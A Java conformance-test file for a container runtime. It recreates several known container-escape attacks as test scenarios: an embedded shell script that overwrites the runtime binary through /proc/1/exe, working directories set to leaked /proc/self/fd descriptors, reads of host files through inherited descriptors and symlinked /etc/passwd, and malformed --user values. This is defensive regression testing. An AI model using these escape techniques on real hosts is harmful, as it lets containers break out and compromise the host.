// SPDX-License-Identifier: Apache-2.0
package io.caisson.conformance.hostile;

import com.fasterxml.jackson.databind.node.ArrayNode;
import io.caisson.conformance.support.Bundle;
import io.caisson.conformance.support.Oci;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;

/** The runtime's own processes as a way out: their descriptors, their executable, their privileges, their arguments. */
final class ProcessAttacks {
    private static final List<String> CAPABILITIES = List.of("CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE");
    /** Where a runtime's own descriptors are, when the working directory is set. */
    private static final int LAST_DESCRIPTOR = 8;

    private ProcessAttacks() {}

    static List<Scenario> all() {
        return List.of(
                new Scenario(
                        "CVE-2016-9962",
                        "a neighbour in the same pid namespace, with the same capabilities, takes descriptors of a"
                                + " container's init that has not become the program yet",
                        "the init cannot be traced, and its /proc files are closed, until execve(2)",
                        ProcessAttacks::descriptorsOfInit),
                new Scenario(
                        "CVE-2019-5736",
                        "a process of the container writes to the runtime's executable through /proc/1/exe",
                        "only a sealed copy in memory is ever executed in a container",
                        ProcessAttacks::overwrittenExecutable),
                new Scenario(
                        "CVE-2022-24769, CVE-2022-29162",
                        "inheritable capabilities that nobody asked for let a program with file capabilities rise",
                        "the inheritable set is the configuration's; --cap and the caller add nothing to it",
                        ProcessAttacks::inheritableCapabilities),
                new Scenario(
                        "CVE-2024-21626",
                        "the working directory is a descriptor of the runtime that leads out of the container's root",
                        "a working directory is opened inside the root without magic links, and its name verified",
                        ProcessAttacks::descriptorAsWorkingDirectory),
                new Scenario(
                        "leaked-descriptors",
                        "the caller of the runtime has a directory of the host open, and the container inherits it",
                        "launcher, caisson-init at its start, and caisson-init before the program each close what was not"
                                + " asked for",
                        ProcessAttacks::leakedDescriptors),
                new Scenario(
                        "CVE-2026-30892",
                        "a malformed --user of exec is read as another user, such as root",
                        "ids are decimal numbers in range, and nothing else",
                        ProcessAttacks::malformedUser),
                new Scenario(
                        "CVE-2025-24965",
                        "a file of the image that the runtime uses on the host's side is a link out of the image",
                        "/etc/passwd is read without following any link",
                        ProcessAttacks::linkedPasswd));
    }

    private static void descriptorsOfInit(Ground ground) throws IOException {
        Bundle bundle = ground.bundle("true").withoutNamespace("pid");
        Path pidFile = ground.directory("created").resolve("pid");
        Ground.require(ground.runtime()
                .run(
                        "create",
                        "--pid-file",
                        pidFile.toString(),
                        "--bundle",
                        bundle.directory().toString(),
                        ground.id()));
        String pid = Files.readString(pidFile).strip();
        String bounding = "-all"
                + String.join(
                        "", CAPABILITIES.stream().map(ProcessAttacks::plus).toList());
        Oci.Result status = ground.host(
                "setpriv", "--bounding-set", bounding, "--inh-caps", "-all", "cat", "/proc/" + pid + "/status");
        Ground.require(
                status.out().contains("CapPrm:\t0000000020000420"),
                "the neighbour has other capabilities: " + status.out());
        Oci.Result look = ground.host(
                "setpriv", "--bounding-set", bounding, "--inh-caps", "-all", "ls", "-l", "/proc/" + pid + "/fd");
        // their number is no secret, what they lead to is
        Ground.succeededIf(look.out().contains(" -> "), "a neighbour sees the descriptors of the init: " + look.out());
    }

    private static String plus(String capability) {
        return ",+" + capability.substring("CAP_".length()).toLowerCase(java.util.Locale.ROOT);
    }

    /** A hook holds the executable of the init; when that has become the program, the file is free to be written. */
    private static void overwrittenExecutable(Ground ground) throws IOException {
        Path executable = ground.distribution().resolve("lib/native/caisson-init");
        byte[] before = Files.readAllBytes(executable);
        Bundle bundle = ground.bundle("sh", "-c", "read line </end");
        allCapabilities(bundle);
        Files.writeString(
                bundle.rootfs().resolve("attack.sh"),
                """
                mknod /end p
                exec 9</proc/1/exe || exit 0
                : >/held
                (
                    until [ "$(readlink /proc/1/exe)" = /bin/busybox ]; do :; done
                    n=0
                    while [ $n -lt 50 ] && ! echo overwritten >/proc/self/fd/9; do n=$((n + 1)); done
                    echo >/end
                ) </dev/null >/dev/null 2>&1 &
                """);
        bundle.addHook("startContainer", "/bin/sh", "sh", "/attack.sh");
        bundle.edit(b -> ((com.fasterxml.jackson.databind.node.ObjectNode)
                        b.config().at("/hooks/startContainer/0"))
                .putArray("env")
                .add("PATH=/bin"));
        Oci.Result result = ground.run(bundle);
        Ground.require(Files.exists(bundle.rootfs().resolve("held")), "the hook could not open it: " + result.err());
        Ground.succeededIf(
                !Arrays.equals(Files.readAllBytes(executable), before), "the runtime's executable was overwritten");
    }

    private static void allCapabilities(Bundle bundle) {
        for (String set : List.of("bounding", "effective", "permitted")) {
            ArrayNode names = bundle.process().withArray("/capabilities/" + set);
            List.of("CAP_SYS_PTRACE", "CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_MKNOD")
                    .forEach(names::add);
        }
        bundle.resources().remove("devices");
        bundle.edit(b -> {});
    }

    private static void inheritableCapabilities(Ground ground) throws IOException {
        Bundle bundle = ground.bundle("sh", "-c", "cat /proc/self/status >/status && exec sleep 1000");
        // a caller with inheritable capabilities of its own, as those who start a runtime by sudo or cron may be
        Oci careless = ground.runtimeUnder("setpriv", "--inh-caps", "+sys_time,+net_raw");
        String id = ground.started(careless, bundle);
        Oci.Result added =
                Ground.require(careless.run("exec", "--cap", "CAP_SYS_TIME", id, "cat", "/proc/self/status"));
        Ground.require(added.out().contains("CapEff:\t0000000022000420"), added.out());
        for (String status : List.of(Files.readString(bundle.rootfs().resolve("status")), added.out())) {
            Ground.succeededIf(!status.contains("CapInh:\t0000000000000000"), "inheritable capabilities: " + status);
        }
    }

    /** The descriptors are a procfs, the host's or one that nothing is masked in, and the root. */
    private static void descriptorAsWorkingDirectory(Ground ground) {
        String id = ground.started(ground.bundle("sleep", "1000"));
        for (int descriptor = 3; descriptor <= LAST_DESCRIPTOR; descriptor++) {
            Oci.Result result =
                    ground.runtime().run("exec", "--cwd", "/proc/self/fd/" + descriptor, id, "cat", "version");
            Ground.succeededIf(result.out().contains("Linux"), "a procfs of the runtime is the working directory");
        }
    }

    private static void leakedDescriptors(Ground ground) throws IOException {
        Path canary = ground.canary();
        Oci careless = ground.runtimeUnder("bash", "-c", "exec 30<\"$0\" && exec \"$@\"", canary.toString());
        Oci.Result result =
                ground.run(careless, ground.bundle("sh", "-c", "ls /proc/self/fd; cat /proc/self/fd/30/token"));
        Ground.require(!result.out().isBlank(), result.err());
        Ground.succeededIf(result.out().contains(Ground.TOKEN), "the container reads the host by a descriptor");
    }

    private static void malformedUser(Ground ground) {
        Bundle bundle = ground.bundle("sleep", "1000");
        bundle.process().putObject("user").put("uid", 1000).put("gid", 1000);
        bundle.process().remove("capabilities");
        String id = ground.started(bundle.edit(b -> {}));
        for (String user : List.of("user", "0x3e8", "4294967296", "1000:wheel", ":1000")) {
            Oci.Result result = ground.runtime().run("exec", "--user", user, id, "id");
            Ground.succeededIf(result.exit() == 0, "--user " + user + " became " + result.out());
        }
    }

    private static void linkedPasswd(Ground ground) throws IOException {
        Path outside = ground.directory("outside");
        Files.writeString(outside.resolve("passwd"), "root:x:0:0:root:/" + Ground.TOKEN + ":/bin/sh\n");
        for (String link : List.of("etc/passwd", "etc")) {
            Bundle bundle = ground.bundle("sh", "-c", "echo $HOME");
            Path place = bundle.rootfs().resolve(link);
            Tools.command(bundle.rootfs(), "rm", "-r", link);
            Files.createSymbolicLink(place, link.equals("etc") ? outside : outside.resolve("passwd"));
            Ground.succeededIf(
                    ground.run(bundle).out().contains(Ground.TOKEN), "a file of the host was read by way of " + link);
        }
    }
}
